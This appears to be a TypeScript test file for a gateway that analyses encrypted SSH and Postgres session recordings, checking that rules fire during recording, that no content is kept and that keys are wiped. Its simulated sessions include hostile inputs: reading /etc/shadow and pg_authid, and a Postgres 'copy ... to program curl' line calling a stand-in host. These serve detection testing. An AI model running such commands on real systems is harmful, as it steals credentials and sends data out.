@@ -1,0 +1,186 @@
+/** Encrypted recordings are looked at while they are written, and nothing of them is kept. */
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, beforeEach, expect, test } from 'vitest'
+import { Analyst } from '../../../src/analysis/analyst/analyst.ts'
+import { quoteIsSealed } from '../../../src/analysis/analyst/sealed-findings.ts'
+import type { AnalystBatch } from '../../../src/analysis/analyst/session-observer.ts'
+import type { FindingDraft } from '../../../src/analysis/findings/finding.ts'
+import { SearchThread } from '../../../src/analysis/index/search-thread.ts'
+import type { IndexedSession } from '../../../src/analysis/index/search-types.ts'
+import type { ContentKeys } from '../../../src/recorder/encryption/content-keys.ts'
+import { SealedReadings } from '../../../src/recorder/encryption/sealed-reading.ts'
+import { policyWith } from '../../policy/people.ts'
+import { newAuditor } from '../../recorder/encryption/support.ts'
+import { newFolder, quiet } from '../../recorder/support.ts'
+import { exec, Recordings, shell, shown, statement, typed } from './recordings.ts'
+
+const { analysis } = policyWith(
+  'ops: { members: { groups: [ops] }, allow: [{ targets: { protocol: ssh }, logins: [root] }] }',
+)
+const word = 'zanzibar'
+let recordings: Recordings
+let dataFolder: string
+let batches: AnalystBatch[]
+let unread: string[]
+let analyst: Analyst
+let search: SearchThread
+let readings: SealedReadings
+let keys: ContentKeys[]
+
+beforeEach(() => {
+  const auditor = newAuditor()
+  readings = new SealedReadings()
+  keys = []
+  recordings = new Recordings({
+    encryptTo: () => [auditor.publicKey],
+    reading: {
+      opened: (session, of) => {
+        keys.push(of)
+        readings.opened(session, of)
+      },
+      ended: session => readings.ended(session),
+    },
+  })
+  dataFolder = newFolder()
+  batches = []
+  unread = []
+  search = new SearchThread(dataFolder)
+  analyst = newAnalyst()
+})
+
+afterEach(async () => {
+  await recordings.recorder.close()
+  await analyst.stop()
+  await search.close()
+})
+
+function newAnalyst(): Analyst {
+  const made = new Analyst({
+    dataFolder,
+    recordingsFolder: recordings.bench.folder,
+    sessions: {
+      list: async ({ state }) => recordings.rows.filter(row => row.state === state),
+      retained: async ({ after }) =>
+        after === undefined ? recordings.rows.filter(row => row.state !== 'open') : [],
+    },
+    fetch: () => Promise.reject(new Error('nowhere')),
+    observing: { analysis, folder: join(dataFolder, 'profiles') },
+    onBatch: batch => void batches.push(batch),
+    onUnread: (_, problem) => void unread.push(problem),
+    log: quiet,
+  })
+  readings.attach(made.reading)
+  return made
+}
+
+async function until<T>(ask: () => T | undefined | Promise<T | undefined>): Promise<T> {
+  for (;;) {
+    const answer = await ask()
+    if (answer !== undefined) return answer
+    await new Promise(resolve => setTimeout(resolve, 30))
+  }
+}
+
+function stateOf(session: string, state: IndexedSession['state']): Promise<IndexedSession> {
+  return until(async () => {
+    const known = (await search.sessions([session])).get(session)
+    return known?.state === state ? known : undefined
+  })
+}
+
+function drafts(rule: string): FindingDraft[] {
+  return batches.flatMap(batch => batch.drafts).filter(({ rules }) => rules.some(id => id.startsWith(rule)))
+}
+
+/** All files below the data folder. */
+function everything(): string {
+  return readdirSync(dataFolder, { recursive: true, withFileTypes: true })
+    .filter(entry => entry.isFile())
+    .map(entry => readFileSync(join(entry.parentPath, entry.name), 'latin1'))
+    .join('\n')
+}
+
+const shadow = [...shell(), ...typed(`cat /etc/shadow /srv/${word}`, `root:$6$${word}\r\n`)]
+
+test('a rule that is met is told while the session runs, with its entry and without a word of it', async () => {
+  const recording = await recordings.open('s1')
+  analyst.start()
+  analyst.opened(recordings.rows[0]!)
+  await recordings.record(recording, shadow)
+  const draft = await until(() => drafts('SSH-')[0])
+  expect(draft.body.quotes).toEqual([
+    { entry: expect.any(Number), offsetMs: expect.any(Number), text: quoteIsSealed },
+  ])
+  expect(draft.body.quality.join(' ')).toContain('The recording is encrypted')
+  await recordings.record(recording, [...typed('whoami'), shown(`${word} on the screen\r\n`)])
+  await recording.seal('done')
+  expect(await stateOf('s1', 'sealed')).toMatchObject({
+    problem: expect.stringContaining('rules were evaluated while it was written'),
+    counts: { commands: 0 },
+  })
+  expect(batches.at(-1)).toMatchObject({ session: 's1', isSealed: true, entries: [], hits: [] })
+  expect(JSON.stringify(batches)).not.toContain(word)
+  expect(unread).toEqual([])
+  await analyst.stop()
+  expect(everything()).toContain('s1')
+  expect(everything()).not.toContain(word)
+})
+
+test('statements are judged, compared and not learned', async () => {
+  const recording = await recordings.open('q1', 'postgres')
+  analyst.start()
+  analyst.opened(recordings.rows[0]!)
+  await recordings.record(recording, [
+    ...statement(1, `select * from ${word}.cards`, 400_000),
+    ...statement(2, 'select * from pg_authid'),
+    ...statement(3, `copy ${word} to program 'curl http://${word}.example'`),
+  ])
+  await recording.seal('done')
+  await stateOf('q1', 'sealed')
+  expect(drafts('PG-').length).toBeGreaterThan(0)
+  expect(JSON.stringify(batches)).not.toContain(word)
+  await analyst.stop()
+  expect(everything()).not.toContain(word)
+})
+
+test('what was recorded last is looked at before the seal, and the keys are overwritten then', async () => {
+  analyst.start()
+  await analyst.forget('nobody') // the thread runs
+  const recording = await recordings.open('s1')
+  analyst.opened(recordings.rows[0]!)
+  await recordings.record(recording, exec(`cat /etc/shadow ${word}`))
+  expect(keys[0]?.chunks.some(byte => byte !== 0)).toBe(true)
+  await recording.seal('done')
+  expect(drafts('SSH-').length).toBeGreaterThan(0)
+  for (const { chunks, events } of keys) expect([...chunks, ...events].every(byte => byte === 0)).toBe(true)
+  await stateOf('s1', 'sealed')
+})
+
+test('where nobody reads the seal does not wait, and it is told that nothing was looked at', async () => {
+  const recording = await recordings.open('s1')
+  await recordings.record(recording, shadow)
+  await recording.seal('done')
+  recordings.ended('s1')
+  analyst.start()
+  expect((await stateOf('s1', 'sealed')).problem).not.toContain('rules')
+  expect(batches.flatMap(batch => batch.drafts)).toEqual([])
+})
+
+test('a gateway that stops in between has lost the keys, and that is told', async () => {
+  const recording = await recordings.open('s1')
+  analyst.start()
+  analyst.opened(recordings.rows[0]!)
+  await recordings.record(recording, shadow)
+  await until(() => drafts('SSH-')[0])
+  await analyst.stop()
+  analyst = newAnalyst()
+  analyst.start()
+  await recordings.record(recording, typed('cat /etc/shadow'))
+  await recording.seal('done')
+  recordings.ended('s1')
+  expect(await stateOf('s1', 'sealed')).toMatchObject({
+    problem: expect.stringContaining('stopped while it was written'),
+  })
+  expect(unread).toEqual([expect.stringContaining('What came after was not looked at')])
+})
